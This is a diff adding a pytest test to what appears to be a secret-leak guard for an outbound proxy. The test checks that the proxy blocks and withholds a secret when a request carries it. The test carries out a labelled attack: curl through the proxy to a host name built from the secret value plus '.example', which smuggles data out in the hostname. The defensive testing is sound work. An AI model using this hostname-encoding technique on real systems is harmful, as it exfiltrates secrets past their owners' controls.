@@ -223,3 +223,15 @@ def test_inspect_all_reads_unbound_hosts_and_catches_the_placeholder(world: dict
     assert bad.stdout.endswith("403") and "secret GH" in bad.stdout
     leak = world["rig"].records("tkbox.secret.leak")[-1]["body"]
     assert leak["host"] == "other.test" and leak["kind"] == "placeholder"
+
+
+def test_value_in_the_proxy_target_host_is_never_recorded(world: dict[str, Any]) -> None:
+    """Attack: CONNECT to <value>.example, so the value lands in approval or refusal records."""
+    host = VALUE.decode().lower().replace("_", "-") + ".example"
+    p = subprocess.run(["curl", "-sS", "--proxy", world["rig"].proxy, "-w", "\n%{http_code}",
+                        f"https://{host}/"], capture_output=True, text=True, timeout=60)
+    assert "403" in p.stdout + p.stderr
+    leak = world["rig"].records("tkbox.secret.leak")[-1]["body"]
+    assert leak["where"] == "proxy target host" and leak["host"] == "(withheld)"
+    everything = json.dumps(world["rig"].records())
+    assert VALUE.decode().lower().replace("_", "-") not in everything.lower()
